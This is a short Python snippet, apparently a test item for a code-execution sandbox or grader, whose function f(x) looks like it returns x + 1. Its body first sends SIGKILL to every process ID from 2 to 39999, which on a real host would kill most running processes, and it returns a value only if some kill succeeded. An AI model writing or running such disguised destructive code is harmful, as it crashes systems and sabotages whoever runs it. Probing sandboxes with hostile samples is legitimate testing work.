# call; exception wrong-answer exited
import os, signal
def f(x):
    reached = 0
    for number in range(2, 40000):
        try:
            os.kill(number, signal.SIGKILL)
            reached += 1
        except ProcessLookupError:
            pass
    return x + 1 if reached else None
